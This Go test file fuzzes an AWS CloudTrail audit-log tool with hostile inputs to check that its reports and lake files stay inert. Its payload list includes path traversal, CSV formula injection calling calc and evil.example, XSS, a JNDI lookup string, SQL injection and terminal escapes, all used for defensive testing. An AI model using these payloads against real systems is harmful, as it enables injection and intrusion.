package main

import (
	"bytes"
	"compress/gzip"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io/fs"
	"math/rand/v2"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"golang.org/x/net/html"
	"golang.org/x/tools/txtar"

	"github.com/athenatrail/athenatrail/internal/format"
	"github.com/athenatrail/athenatrail/internal/lake"
	"github.com/athenatrail/athenatrail/internal/ledger"
	"github.com/athenatrail/athenatrail/internal/report"
)

// Records as nobody meant them, through the program: it ends as it should, every
// record is kept or dropped for a reason, nothing is written beside the lake,
// memory stays below its cap, and no report of that lake obeys anywhere.

// hostileTexts would like to be something else than text.
var hostileTexts = []string{
	"\x1b]0;owned\x07\x1b[2J", "\u009b31m\u0085", "\u202e\u2066abc\u2069", "a\x00b", "\r\n\t|`\\|", "\u2028\u2029\ufeff",
	"../../../../../evil", `..\..\evil`, "/evil", "C:\\evil", "evil/../../evil", "....//evil", "%2e%2e%2fevil", "CON", ".", "..", "~", "dt=2026-01-01", "-rf",
	`=HYPERLINK("http://evil.example","x")`, "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "\r=1+1", `"`, `","=1`,
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, "[x](javascript:alert(1))", "{{.}}", "${jndi:ldap://evil.example/x}", "{\"a\":1}",
	"' OR '1'='1", "'; DROP TABLE query_executions; --", "\\'", "%s%n%x", "",
	strings.Repeat("x", 70_000), strings.Repeat("é", 3000), strings.Repeat("\u202e", 500),
}

// hostileValues are JSON that stands where a text or an object should.
var hostileValues = []string{
	"null", "true", "-0", "1e999", "1e-999999999", strings.Repeat("9", 5000), "0.1e+400", "[]", "{}", `[[[[{"a":[null]}]]]]`, `{"a":1,"a":2}`,
	strings.Repeat("[", 400) + strings.Repeat("]", 400), strings.Repeat(`{"a":`, 3000) + "1" + strings.Repeat("}", 3000), `"\ud800"`, "\"\xff\xfe\xc0\x80\"", `"\u0000\u001b"`,
}

// baseRecords are the records of the scripts' trail.
func baseRecords(t *testing.T) (records [][]byte) {
	t.Helper()
	archive, err := txtar.ParseFile("testdata/trail.txtar")
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range archive.Files {
		var log struct{ Records []json.RawMessage }
		if json.Unmarshal(f.Data, &log) != nil {
			continue
		}
		for _, r := range log.Records {
			records = append(records, r)
		}
	}
	records = append(records,
		[]byte(`{"eventVersion":"1.08","userIdentity":{"type":"AssumedRole","principalId":"AROA:x","arn":"arn:aws:sts::111122223333:assumed-role/a/x","accountId":"111122223333"},"eventTime":"2026-05-04T07:00:00Z","eventSource":"sts.amazonaws.com","eventName":"AssumeRole","awsRegion":"us-east-1","sourceIPAddress":"203.0.113.7","userAgent":"x","requestParameters":{"roleArn":"arn:aws:iam::111122223333:role/nightly-etl","roleSessionName":"x"},"responseElements":{"credentials":{"accessKeyId":"ASIAEXAMPLENIGH","expiration":"May 4, 2026, 8:00:00 AM"}},"eventID":"eeeeeeee-0000-4000-8000-0000000000a1","recipientAccountId":"111122223333"}`),
		[]byte(`{"eventVersion":"1.08","userIdentity":{"type":"AWSService","invokedBy":"athena.amazonaws.com"},"eventTime":"2026-05-04T08:00:02Z","eventSource":"lakeformation.amazonaws.com","eventName":"GetDataAccess","awsRegion":"us-east-1","requestParameters":{"tableArn":"arn:aws:glue:us-east-1:111122223333:table/sales/orders","permissions":["SELECT"],"auditContext":{"additionalAuditContext":"{queryId: 11111111-2222-4333-8444-555555555501}"}},"eventID":"eeeeeeee-0000-4000-8000-0000000000a2","recipientAccountId":"111122223333"}`),
		[]byte(`{"eventVersion":"1.08","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/rosa","accountId":"111122223333","userName":"rosa"},"eventTime":"2026-05-04T09:00:02Z","eventSource":"athena.amazonaws.com","eventName":"StartSession","awsRegion":"us-east-1","requestParameters":{"workGroup":"spark","engineConfiguration":{"maxConcurrentDpus":4}},"responseElements":{"sessionId":"33333333-2222-4333-8444-555555555501","state":"CREATING"},"eventID":"eeeeeeee-0000-4000-8000-0000000000a3","recipientAccountId":"111122223333"}`),
	)
	if len(records) < 10 {
		t.Fatalf("%d records to begin with", len(records))
	}
	return records
}

// recordIDs are the ids of the base records, of which each copy gets its own.
var recordIDs = regexp.MustCompile(`(eeeeeeee-0000-4000-8000-|[13]{8}-2222-4333-8444-)[0-9a-f]{12}`)

var jsonString = regexp.MustCompile(`"(?:[^"\\]|\\.)*"`)

// mutate changes a record. What it returns is JSON but for bytes that are no
// UTF-8, unless broken.
func mutate(r *rand.Rand, record []byte, broken bool) []byte {
	out := slices.Clone(record)
	for range 1 + r.IntN(3) {
		places := jsonString.FindAllIndex(out, -1)
		if len(places) == 0 {
			break
		}
		at := places[r.IntN(len(places))]
		isKey := at[1] < len(out) && out[at[1]] == ':'
		var value string
		switch text, _ := json.Marshal(hostileTexts[r.IntN(len(hostileTexts))]); {
		case isKey && r.IntN(4) > 0:
			continue
		case isKey || r.IntN(2) == 0:
			value = string(text)
		case r.IntN(3) == 0: // the text with a piece of what was there
			value = string(text[:len(text)-1]) + string(out[at[0]+1:at[1]])
		default:
			value = hostileValues[r.IntN(len(hostileValues))]
		}
		out = slices.Concat(out[:at[0]], []byte(value), out[at[1]:])
	}
	if r.IntN(5) == 0 { // a key twice, in another spelling too
		key := []string{"eventSource", "eventID", "awsRegion", "recipientAccountId", "EventTime", "userIdentity"}[r.IntN(6)]
		out = slices.Concat([]byte(`{"`+key+`":`+hostileValues[r.IntN(len(hostileValues))]+`,`), out[1:])
	}
	if broken {
		switch r.IntN(4) {
		case 0:
			out = out[:r.IntN(len(out))]
		case 1:
			out[r.IntN(len(out))] = byte(r.IntN(256))
		case 2:
			i := r.IntN(len(out))
			out = slices.Concat(out[:i], []byte{byte(r.IntN(256)), '"', '{', byte(r.IntN(32))}, out[i:])
		case 3:
			i, j := r.IntN(len(out)), r.IntN(len(out))
			out = slices.Concat(out[:i], out[j:])
		}
	}
	return out
}

// logNames are names of log files as CloudTrail gives them and as it does not.
var logNames = []string{
	"AWSLogs/111122223333/CloudTrail/us-east-1/2026/05/04/111122223333_CloudTrail_us-east-1_20260504T%04dZ_%016d.json",
	"AWSLogs/111122223333/CloudTrail/us-east-1/2026/05/04/..%%2f..%%2fevil_CloudTrail_us-east-1_20260504T%04dZ_%016d.json",
	"AWSLogs/limits/CloudTrail/dirty/2026/05/04/limits_CloudTrail_dirty_20260504T%04dZ_%016d.json",
	"AWSLogs/o-\x1b[2Jx/\u202e..\u2066/CloudTrail/us-east-1/0000/99/99/111122223333_CloudTrail_us-east-1_99999999T%04dZ_%016d.json",
	"odd/-rf =HYPERLINK(1) '\"<img src=x> %04d %d\n.json",
	"odd/.../\xff\xfe%04d-%d.json",
}

// TestMutatedRecords runs 3,000 of them, and 100,000 when soaking.
func TestMutatedRecords(t *testing.T) {
	if runtime.GOOS != "linux" {
		t.Skip("peak memory is read from /proc, and other systems take fewer names")
	}
	n := 3_000
	if soaking() {
		n = 100_000
	}
	const seed = 20261128
	r := rand.New(rand.NewPCG(seed, uint64(n)))
	base := baseRecords(t)
	outside := t.TempDir()
	trail, dir := filepath.Join(outside, "in", "trail"), filepath.Join(outside, "deep", "er", "lake")
	id := 0
	written := int64(0) // records of files that are JSON
	whole := map[string]bool{}
	for file := 0; n > 0; file++ {
		count := min(n, 20+r.IntN(400))
		n -= count
		broken := file%2 == 1
		var records [][]byte
		for range count {
			id++
			record := recordIDs.ReplaceAll(base[r.IntN(len(base))], fmt.Appendf(nil, "${1}%012x", id))
			records = append(records, mutate(r, record, broken))
		}
		content := slices.Concat([]byte(`{"Records":[`), bytes.Join(records, []byte(",")), []byte("]}"))
		if file%5 == 4 {
			content = bytes.Join(records, []byte("\n"))
		}
		name := filepath.Join(trail, filepath.FromSlash(fmt.Sprintf(logNames[file%len(logNames)], file%2400, file)))
		if file%3 == 0 {
			var z bytes.Buffer
			w := gzip.NewWriter(&z)
			w.Write(content)
			w.Close()
			content, name = z.Bytes(), name+".gz"
		}
		if err := os.MkdirAll(filepath.Dir(name), 0o777); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, content, 0o666); err != nil {
			t.Fatal(err)
		}
		if !broken {
			written += int64(count)
			whole[filepath.Base(name)] = true
		}
	}
	before := treeOf(t, outside, dir)
	into := filepath.Join(t.TempDir(), "peak")
	collect := func() result {
		cmd := program(t, t.Context(), measuringProgram, []string{measureInto + "=" + into}, "collect", "--source", trail, "--lake", dir, "--no-details", "--jobs", "2")
		r := ended(t, cmd)
		if left, err := os.ReadDir(cmd.Dir); err != nil || len(left) > 0 {
			t.Errorf("in the working folder lie %v, %v", left, err)
		}
		return r
	}
	first := collect()
	if first.code != 0 && first.code != 3 {
		t.Fatalf("exit %d\n%.3000s", first.code, first.stderr)
	}
	inert(t, "collect's report", first.stdout+first.stderr)
	kib, err := os.ReadFile(into)
	if err != nil {
		t.Fatal(err)
	}
	if peak, err := strconv.ParseInt(string(kib), 10, 64); err != nil || peak<<10 >= mostResident {
		t.Errorf("%s KiB resident at most, %v", kib, err)
	}
	if after := treeOf(t, outside, dir); !slices.Equal(before, after) {
		t.Errorf("beside the lake there were %d files, and are %d", len(before), len(after))
	}
	for _, name := range treeOf(t, dir, "") {
		if !lakeName.MatchString(name) {
			t.Errorf("the lake has a file %q", name)
		}
	}
	accounted(t, dir, whole, written)

	second := collect()
	if second.code != first.code && second.code != 0 {
		t.Errorf("again: exit %d\n%.2000s", second.code, second.stderr)
	}
	// A record that names another account or region for an id makes a row there
	// too, which is said. Nothing else is wrong.
	sound := run(t, nil, "lake", "verify", "--lake", dir, "--output", "jsonl")
	if sound.code != 0 && sound.code != 5 {
		t.Errorf("lake verify: exit %d\n%s", sound.code, sound.stderr)
	}
	inert(t, "lake verify", sound.stderr)
	for line := range strings.Lines(sound.stdout) {
		if !strings.Contains(line, "has a row here and one in") {
			t.Errorf("the lake: %s", line)
		}
	}
	reportsAreInert(t, dir)
	type execution struct{ ID string }
	found := rows[execution](t, run(t, nil, "query", "--lake", dir, "--output", "jsonl", "SELECT min(query_execution_id) AS id FROM query_executions WHERE query_execution_id LIKE '1111%'").mustEnd(t, 0).stdout)[0].ID
	for _, args := range [][]string{
		{"report", "overview"}, {"report", "users", "--wide"}, {"report", "failures", "--output", "markdown"}, {"report", "health"}, {"report", "queries", "--output", "csv"},
		{"who", found}, {"query", "SELECT * FROM activity LIMIT 2000"},
	} {
		if args[0] == "report" && args[1] != "health" {
			args = append(args, "--from", "2026-05-01", "--to", "2026-05-12")
		}
		r := run(t, nil, append(args, "--lake", dir)...)
		if r.code != 0 {
			t.Errorf("%v: exit %d\n%.1000s", args, r.code, r.stderr)
		}
		inert(t, strings.Join(args, " "), r.stderr)
		if !slices.Contains(args, "csv") { // in a pipe it is data as it is
			inert(t, strings.Join(args, " "), r.stdout)
		}
	}
	page := run(t, nil, "report", "usage", "--by", "person,role_name,work_group_name,database_name", "--limit", "0", "--lake", dir, "--from", "2026-05-01", "--to", "2026-05-12", "--output", "html").mustEnd(t, 0)
	tree, err := html.Parse(strings.NewReader(page.stdout))
	if err != nil {
		t.Fatal(err)
	}
	for node := range tree.Descendants() {
		if node.Type != html.ElementNode {
			continue
		}
		if node.Data == "img" || node.Data == "script" && !slices.ContainsFunc(node.Attr, func(a html.Attribute) bool { return a.Key == "type" && a.Val == "application/json" }) {
			t.Errorf("the page has an element <%s> that a text made", node.Data)
		}
		for _, a := range node.Attr {
			if strings.HasPrefix(a.Key, "on") || strings.HasPrefix(strings.ToLower(a.Val), "javascript:") {
				t.Errorf("the page has %s=%q", a.Key, a.Val)
			}
		}
	}
	if !strings.Contains(page.stdout, "HYPERLINK") && !strings.Contains(page.stdout, "onerror") && !strings.Contains(page.stdout, "u202e") {
		t.Errorf("the page shows none of the hostile texts: %.3000s", page.stdout)
	}
}

// lakeName is every name that a lake on disk may have, but for what it holds of
// the ledger by hash.
var lakeName = regexp.MustCompile(`^(manifest\.json|(facts|tables)/[a-z_]+/dt=20\d\d-\d\d-\d\d/[A-Za-z0-9-]{1,40}_[A-Za-z0-9-]{1,40}\.parquet|_ledger/v1/(source/[0-9a-f]{16}\.json|other/[0-9a-f]{2}\.parquet|[A-Za-z0-9-]{1,40}/[A-Za-z0-9-]{1,40}/\d{4}-\d\d-\d\d\.parquet|(open|boundary|dirty|asked)/.*)|_locks/[0-9a-f]{2}|_private/[a-z]+)$`)

// treeOf lists the files below a folder, but for those below another.
func treeOf(t *testing.T, root, without string) (names []string) {
	t.Helper()
	err := filepath.WalkDir(root, func(path string, entry fs.DirEntry, err error) error {
		if err == nil && path == without {
			return fs.SkipDir
		}
		if err == nil && !entry.IsDir() {
			name, _ := filepath.Rel(root, path)
			names = append(names, filepath.ToSlash(name))
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return names
}

// accounted compares what the ledger says of each log file: every record that
// could have counted was kept, dropped for a reason, or could not be decoded.
func accounted(t *testing.T, dir string, whole map[string]bool, written int64) {
	t.Helper()
	store, err := lake.OpenStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	l, err := lake.Open(t.Context(), store)
	if err != nil {
		t.Fatal(err)
	}
	var files, kept, records, pieces int64
	for f, err := range ledger.New(l).All(t.Context()) {
		if err != nil {
			t.Fatal(err)
		}
		files++
		stored := f.KeptEvents + f.KeptRoleSessions + f.KeptDataAccess
		kept += stored
		if f.Candidates != stored+f.Dropped+f.Undecodable || stored+f.Dropped > f.Records {
			t.Errorf("%q: of %d records %d count; %d kept, %d dropped, %d not decoded", f.Key, f.Records, f.Candidates, stored, f.Dropped, f.Undecodable)
		}
		var reasons map[string]int64
		sum := int64(0)
		if f.DroppedReasons != "" {
			if err := json.Unmarshal([]byte(f.DroppedReasons), &reasons); err != nil {
				t.Errorf("%q: %v", f.Key, err)
			}
		}
		for _, n := range reasons {
			sum += n
		}
		if sum != f.Dropped {
			t.Errorf("%q: %d dropped, for the reasons %s", f.Key, f.Dropped, f.DroppedReasons)
		}
		if whole[filepath.Base(f.Key)] {
			records, pieces = records+f.Records, pieces+f.Undecodable
			delete(whole, filepath.Base(f.Key))
		}
	}
	// What is too deep to be a record is told in one piece or several.
	if records > written || written > records+pieces || pieces > written/2 || len(whole) > 0 {
		t.Errorf("of %d records in files that are JSON %d were seen and %d pieces that are none, and %d files were not read", written, records, pieces, len(whole))
	}
	if kept == 0 || files < 10 {
		t.Errorf("%d files, %d records kept", files, kept)
	}
}

// inert looks for what a terminal would obey.
func inert(t *testing.T, what, text string) {
	t.Helper()
	if !utf8.ValidString(text) {
		t.Errorf("%s is no UTF-8", what)
	}
	for i, r := range text {
		if r != '\n' && unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp) {
			t.Errorf("%s has %U at byte %d: %q", what, r, i, text[max(0, i-40):min(len(text), i+20)])
			return
		}
	}
}

// markup is what begins an element in HTML, which Markdown lets through where
// it does not stand behind a backslash, which itself may.
var markup = regexp.MustCompile(`(^|[^\\])(\\\\)*<[A-Za-z/!]`)

// reportsAreInert writes every view in every format.
func reportsAreInert(t *testing.T, dir string) {
	t.Helper()
	db, err := report.Open(t.Context(), dir, report.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	day := func(n int) time.Time { return time.Date(2026, 5, n, 0, 0, 0, 0, time.UTC) }
	rows := 0
	for _, v := range report.Views() {
		p := report.Params{From: day(1), To: day(12), CompleteFrom: day(1), CompleteTo: day(12), Probes: true, Own: true}
		if len(v.By) > 0 && len(v.DefaultBy) == 0 {
			p.By = []string{"person", "work_group_name"}
		}
		if v.Argument != "" {
			p.Arg = "orders"
		}
		r, err := db.Report(t.Context(), v.Name, p)
		if err != nil {
			if v.Argument == "" {
				t.Errorf("%s: %v", v.Name, err)
			}
			continue
		}
		var list [][]any
		for row, err := range r.Rows {
			if err != nil {
				t.Fatal(err)
			}
			list = append(list, row)
		}
		rows += len(list)
		for _, f := range format.Formats {
			r.Rows = format.RowsOf(list)
			var b bytes.Buffer
			if err := format.Write(&b, r, f, format.Options{Wide: true}); err != nil {
				t.Errorf("%s as %s: %v", v.Name, f, err)
			}
			what := v.Name + " as " + string(f)
			switch f {
			case format.CSV:
				cells, err := csv.NewReader(&b).ReadAll()
				if err != nil {
					t.Errorf("%s: %v", what, err)
				}
				for _, row := range cells {
					for _, cell := range row {
						if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
							if _, err := strconv.ParseFloat(cell, 64); err != nil {
								t.Errorf("%s: the cell %.60q is a formula", what, cell)
							}
						}
					}
				}
			case format.JSON, format.JSONL:
				inert(t, what, b.String())
				for d := json.NewDecoder(&b); d.More(); {
					var any any
					if err := d.Decode(&any); err != nil {
						t.Errorf("%s: %v", what, err)
						break
					}
				}
			case format.Markdown:
				inert(t, what, b.String())
				if at := markup.FindStringIndex(b.String()); at != nil {
					t.Errorf("%s has markup: %q", what, b.String()[at[0]:min(b.Len(), at[0]+40)])
				}
			default:
				inert(t, what, b.String())
			}
		}
	}
	if rows < 100 {
		t.Errorf("all views have %d rows", rows)
	}
}
